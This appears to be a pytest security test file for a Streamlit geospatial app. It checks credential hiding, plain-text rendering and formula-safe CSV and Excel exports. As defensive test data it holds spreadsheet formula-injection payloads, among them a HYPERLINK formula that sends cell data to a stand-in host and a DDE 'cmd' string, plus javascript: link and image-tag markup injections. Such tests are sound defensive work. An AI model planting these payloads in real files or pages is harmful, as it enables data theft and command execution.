"""A shared deployment that lets no one in (issue 11, item 6), as a visitor or an attacker sees it:
no sample login on a shared server, database passwords never shown, file text never rendered as
Markdown, spreadsheet exports that cannot run formulas, one bad import never breaks a page."""
from __future__ import annotations

import html
import io
import json
import re
import uuid
import zipfile
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

import geopandas as gpd
import openpyxl
import pandas as pd
import pyproj
import pytest
from markdown_it import MarkdownIt
from shapely.geometry import box
from streamlit import config
from streamlit.testing.v1 import AppTest

from geo import batch, ledger
from geo.errors import InputError
from geo.i18n import error_text, t
from geo.layer_import import validate_layer
from geo.seed import open_store
from geo.store import StoreError
from tests._app import map_reports
from geo.store.postgis import PostGISStore
from layers.schema import schema_for
from tests._stores import OFFICIAL_USER, need_postgis
from tests.test_screen_cli import bundle, read_rows, run_cli, write_sites_csv  # noqa: F401
from ui.feedback import plain

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "streamlit_app.py")
SECRET = "sekrit-" + uuid.uuid4().hex[:8]
IMAGE = "![x](http://127.0.0.1:9/x.png)"
_MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _rendered(markdown: str) -> tuple[str, str]:
    """(HTML, visible text) of ``markdown`` as CommonMark renders it."""
    out = _MD.render(markdown)
    return out, html.unescape(re.sub(r"<[^>]+>", "", out)).strip()


def _app(lang: str, address: str) -> AppTest:
    old = config.get_option("server.address")
    config.set_option("server.address", address)
    try:
        at = AppTest.from_file(APP, default_timeout=180)
        at.session_state["lang"] = lang
        return map_reports(at.run())
    finally:
        config.set_option("server.address", old)


# ------------------------------------------------------------ no sample login on a shared server

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_server_beyond_loopback_gets_no_sample_login_and_says_how(env, monkeypatch, capsys, lang):
    monkeypatch.delenv("QPA_USERS", raising=False)
    monkeypatch.delenv("QPA_USERS_FILE", raising=False)
    at = _app(lang, "0.0.0.0")
    assert not at.exception, at.exception
    assert not (env / "credentials.json").exists()
    assert "sample local login" not in capsys.readouterr().err
    assert [i.value for i in at.sidebar.info] == [t("sec.no_users", lang)]
    assert not [w for w in at.text_input if w.key == "auth_password"]


def test_local_server_prints_the_sample_login_on_its_first_page(env, monkeypatch, capsys):
    """Local use: the sample official is made and its password printed as the server serves
    its first page, before anyone tries to log in."""
    monkeypatch.delenv("QPA_USERS", raising=False)
    monkeypatch.delenv("QPA_USERS_FILE", raising=False)
    at = _app("en", "127.0.0.1")
    assert not at.exception, at.exception
    assert "sample local login" in capsys.readouterr().err
    assert (env / "credentials.json").exists()
    assert [w for w in at.text_input if w.key == "auth_password"] and not at.sidebar.info


def _url_with_query_password() -> tuple[str, str]:
    """The test PostGIS URL with its password moved to ``?password=`` (plus a marker)."""
    parts = urlsplit(need_postgis())
    netloc = parts.netloc.replace(f":{parts.password}@", "@") if parts.password else parts.netloc
    password = parts.password or SECRET
    query = f"password={password}&application_name={SECRET}"
    return urlunsplit(parts._replace(netloc=netloc, query=query)), password


def test_database_url_means_no_sample_login_and_no_password_on_the_data_page(env, monkeypatch,
                                                                               capsys):
    url, password = _url_with_query_password()
    schema = f"t_{uuid.uuid4().hex[:12]}"
    monkeypatch.setenv("QPA_DATABASE_URL", url)
    monkeypatch.setenv("QPA_DATABASE_SCHEMA", schema)
    monkeypatch.delenv("QPA_USERS", raising=False)
    try:
        at = _app("en", "127.0.0.1")
        at.switch_page("pages/data.py").run()
        assert not at.exception, at.exception
        assert not (env / "credentials.json").exists()
        assert [i.value for i in at.sidebar.info] == [t("sec.no_users", "en")]
        shown = [e.value for e in (*at.caption, *at.markdown, *at.info, *at.error)]
        assert any("postgis" in s for s in shown), shown  # the anonymous viewer sees where...
        assert not any(password in s for s in shown), shown  # ...but never the password
        assert password not in capsys.readouterr().err
    finally:
        open_store(url, seed=False, schema=schema).drop_schema()


@pytest.mark.parametrize("url", [
    f"postgresql://qpa:{SECRET}@127.0.0.1:9/qpa",
    f"postgresql://qpa@127.0.0.1:9/qpa?password={SECRET}",
    f"postgresql://qpa:{SECRET}@127.0.0.1:9/qpa?password={SECRET}&sslmode=disable",
    f"postgresql://qpa:{SECRET} x@[bad/qpa",  # malformed: the driver quotes the password
    f"postgresql://qpa@127.0.0.1:9/qpa?password={SECRET}&nonsense=1",
], ids=["userinfo", "query", "both", "malformed", "unknown-option"])  # stable ids: SECRET is random
def test_connection_errors_never_show_the_password(url):
    with pytest.raises(StoreError) as err:  # the store connects when opened (pool check)
        store = PostGISStore(url, schema="qpa")
        with store.transaction():
            pass
    where = PostGISStore.__new__(PostGISStore)
    where.url, where.schema = url, "qpa"
    shown = [str(err.value), where.location, *map(str, err.value.params.values()),
             error_text(err.value, "zh"), error_text(err.value, "en")]
    assert not any(SECRET in s for s in shown), shown


# ------------------------------------------------------------ file and user text stays text

@pytest.mark.parametrize("text", [
    IMAGE, "[click](javascript:alert(1))", "<img src=http://127.0.0.1:9/y.png>",
    "<http://127.0.0.1:9/>", "www.example.com", "*bold* _em_ `code` ~~gone~~ $x^2$",
    ":red[red] | a | b |", "# heading\n- item\n1. first\n> quote", "&lt;tag&gt; \\*kept\\*",
    "area_ha site_id", "煤制烯烃（示意）— 1/5/10 km",
])
def test_plain_text_renders_as_written(text):
    rendered, visible = _rendered(plain(text))
    assert not re.search(r"<(img|a|em|strong|code|h\d|li|blockquote|table|del)\b", rendered)
    assert visible == re.sub(r"\s+", " ", text).strip() or visible == text


def test_server_paths_and_database_passwords_never_reach_a_message():
    shown = plain(f"cannot read /srv/qpa/var/uploads/x.shp via postgresql://u:{SECRET}@h/db")
    assert "/srv" not in shown and SECRET not in shown and "x.shp" in shown


def _prj_zip(name: str) -> bytes:
    folder = Path(__import__("tempfile").mkdtemp())
    gpd.GeoDataFrame({"name": ["a"]}, geometry=[box(101.73, 36.56, 101.74, 36.57)],
                     crs=4326).to_file(folder / "site.shp")
    wkt = pyproj.CRS(4326).to_wkt("WKT1_ESRI").replace('GEOGCS["GCS_WGS_1984"',
                                                        f'GEOGCS["{name}"', 1)
    (folder / "site.prj").write_text(wkt)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for path in folder.iterdir():
            zf.write(path, path.name)
    return buf.getvalue()


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_prj_name_is_shown_as_text_not_an_image(env, lang):
    at = AppTest.from_file(str(ROOT / "pages" / "site_check.py"), default_timeout=180)
    at.session_state["lang"] = lang
    at.run()
    at.radio(key="site_mode").set_value("file").run()
    at.file_uploader(key="site_file").set_value(("site.zip", _prj_zip(IMAGE), "application/zip"))
    at.run()
    assert not at.exception, at.exception
    shown = [e.value for e in (*at.success, *at.warning, *at.error, *at.info, *at.markdown,
                               *at.caption)]
    hits = [s for s in shown if IMAGE in _rendered(s)[1]]
    assert hits, shown  # the CRS name is shown, as the text it is...
    assert not any("<img" in _rendered(s)[0] for s in shown)  # ...and never as an image


def test_unexpected_errors_show_one_line_without_paths():
    def app():
        from ui import feedback

        feedback.show_error(RuntimeError("boom in /srv/qpa/geo/secret_module.py"), "en")

    at = AppTest.from_function(app).run()
    assert [e.value for e in at.error] == [t("sec.err.unexpected", "en")]
    assert not at.exception


# ------------------------------------------------------------ spreadsheet exports

HOSTILE = ['=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_every_formula_trigger_is_neutralised():
    from geo.export_safe import neutralise, neutralise_frame

    for text in [*HOSTILE, "\t=1+1", "\r=1+1"]:
        assert neutralise(text) == "'" + text
    frame = neutralise_frame(pd.DataFrame({"id": ["=1", "ok"], "d": [-3.5, 2.0]}))
    assert frame["id"].tolist() == ["'=1", "ok"] and frame["d"].tolist() == [-3.5, 2.0]


def test_batch_excel_and_csv_cells_cannot_run_formulas(tmp_path):
    sites = tmp_path / "s.csv"
    rows = "\n".join(f'"{s.replace(chr(34), chr(34) * 2)}",101.7,36.5{i},30'
                     for i, s in enumerate(HOSTILE))
    sites.write_text("site_id,lon,lat,area_ha\n" + rows + "\n", encoding="utf-8")
    out = tmp_path / "ranked.csv"
    assert batch.main([str(sites), "--product", "正极材料", "--out", str(out), "--xlsx",
                       "--draws", "10"]) == 0
    ids = pd.read_csv(out, keep_default_na=False)["site_id"].tolist()
    assert sorted(ids) == sorted("'" + s for s in HOSTILE)
    sheet = openpyxl.load_workbook(out.with_suffix(".xlsx"))["ranking"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    header = {c.value: c.column for c in sheet[1]}
    assert sorted(c.value for c in cells if c.column == header["site_id"] and c.row > 1) == sorted(ids)
    assert all(isinstance(c.value, (int, float)) for c in cells
               if c.row > 1 and c.column == header["area_ha"])  # numbers stay numbers


def test_screen_cli_csv_cells_cannot_run_formulas(bundle, tmp_path):  # noqa: F811
    sites = write_sites_csv(tmp_path / "sites.csv",
                            ['"=HYPERLINK(""http://127.0.0.1:9/"",""x"")",97.05,36.05,20'])
    out = tmp_path / "result.csv"
    assert run_cli(bundle, sites, "--product", "碳酸锂", "--out", out) == 0
    assert {r["site_id"] for r in read_rows(out)} == {"'=HYPERLINK(\"http://127.0.0.1:9/\",\"x\")"}


def test_quota_ledger_csv_cells_cannot_run_formulas(env):
    store = open_store(env / "store.gpkg")
    base, year = ledger.quotas(store).iloc[0][["base_id", "year"]]
    ledger.reserve(store, OFFICIAL_USER, base, int(year), 1.0, "=cmd|' /C calc'!A0")
    text = ledger.entries_csv(store).decode("utf-8-sig")
    reasons = pd.read_csv(io.StringIO(text), keep_default_na=False)["reason"].tolist()
    assert "'=cmd|' /C calc'!A0" in reasons and not any(r.startswith("=") for r in reasons)


# ------------------------------------------------------------ structured fields on import

def _bases_with_chains(value) -> gpd.GeoDataFrame:
    from geo import bundle as _bundle

    frame = _bundle.read_layer("bases")
    frame["source"], frame["source_date"], frame["accuracy"] = "DNR", "2026-01-01", "authoritative"
    frame["chains"] = frame["chains"].astype(object)
    frame.loc[frame.index[3], "chains"] = value
    return frame


@pytest.mark.parametrize("bad", [
    "not json", '{"id": "lithium"}', "[1, 2]", '[{"steps_zh": "卤水-碳酸锂"}]',
    '[{"name_zh": 3}]', '[{"steps_en": ["a", 2]}]',
])
def test_bases_import_with_malformed_chains_is_refused(bad):
    with pytest.raises(InputError) as err:
        validate_layer(_bases_with_chains(bad), schema_for("bases"))
    assert err.value.key == "sec.err.structured" and err.value.params["row"] == 4
    for lang in ("zh", "en"):
        assert error_text(err.value, lang) == t("sec.err.structured", lang, field="chains", row=4,
                                                why=err.value.params["why"])


def test_bases_import_with_well_formed_chains_passes():
    good = json.dumps([{"id": "li", "name_zh": "锂", "steps_zh": ["卤水", "碳酸锂"]}],
                      ensure_ascii=False)
    validate_layer(_bases_with_chains(good), schema_for("bases"))
    validate_layer(_bases_with_chains(None), schema_for("bases"))


@pytest.mark.parametrize("page", ["atlas", "site_check", "chains"])
def test_a_bad_stored_chains_value_never_breaks_a_page(env, page):
    """A malformed value already in the store (written before the import check, or into the
    database directly) is read as empty: the pages still open for everyone."""
    from geo import bundle as _bundle

    store = open_store(env / "qpa_store.gpkg")
    frame = _bundle.read_layer("bases")
    frame["chains"] = frame["chains"].astype(object)
    frame.loc[frame.index[2], "chains"] = '{"broken": 1}'
    store.replace_layer("bases", frame, user=OFFICIAL_USER, source="x", source_date="2026-01-01")
    store.close()
    at = AppTest.from_file(str(ROOT / "pages" / f"{page}.py"), default_timeout=180)
    at.session_state["lang"] = "en"
    at.run()
    if page == "site_check":
        at.radio(key="site_mode").set_value("paste").run()
        at.text_area(key="paste_text").input("101.726,36.556\n101.734,36.556\n"
                                             "101.734,36.564\n101.726,36.564")
        at.button(key="paste_go").click().run()
        at.text_input(key="product").input("碳酸锂")
        next(b for b in at.button if b.label == t("site.run", "en")).click().run()
        assert at.header and at.header[0].value.startswith(t("site.verdict_compliance", "en", status=""))
    assert not at.exception, at.exception


def test_secure_defaults_in_the_streamlit_config():
    """Loopback unless a deployment says otherwise; an unexpected error shows its type only."""
    import tomllib

    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["client"]["showErrorDetails"] == "type"
